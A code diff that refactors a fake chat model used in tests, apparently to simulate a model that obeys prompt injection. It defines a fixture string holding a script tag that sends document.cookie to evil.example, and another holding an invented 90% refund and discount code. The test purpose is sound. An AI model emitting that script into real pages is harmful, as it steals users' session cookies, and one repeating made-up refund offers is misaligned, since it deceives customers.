@@ -12,30 +12,18 @@ from __future__ import annotations
 import re
 from collections.abc import AsyncIterator, Sequence
 
-from service.llm.base import ChatMessage, GenerationOptions, approximate_tokens
+from service.llm.base import ChatMessage, GenerationOptions
+from tests.fakes.instant_model import InstantChatModel
 
 INVENTED = "Good news: you get a 90% refund and the discount code SAVE90 [1]."
 SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
 _TAGS = re.compile(r"<[^>]*>")
 
 
-class ObedientChatModel:
-    def __init__(self) -> None:
-        self.prompts: list[list[ChatMessage]] = []
-
-    @property
-    def max_concurrency(self) -> int | None:
-        return None
-
+class ObedientChatModel(InstantChatModel):
     @property
     def name(self) -> str:
         return "obedient"
-
-    async def check(self) -> None:
-        return None
-
-    def count_tokens(self, text: str) -> int:
-        return approximate_tokens(text)
 
     def reply(self, messages: Sequence[ChatMessage]) -> str:
         system, user = messages[0].content, messages[-1].content
@@ -54,6 +42,3 @@ class ObedientChatModel:
         self.prompts.append(list(messages))
         for word in self.reply(messages).split(" "):
             yield word + " "
-
-    async def close(self) -> None:
-        return None
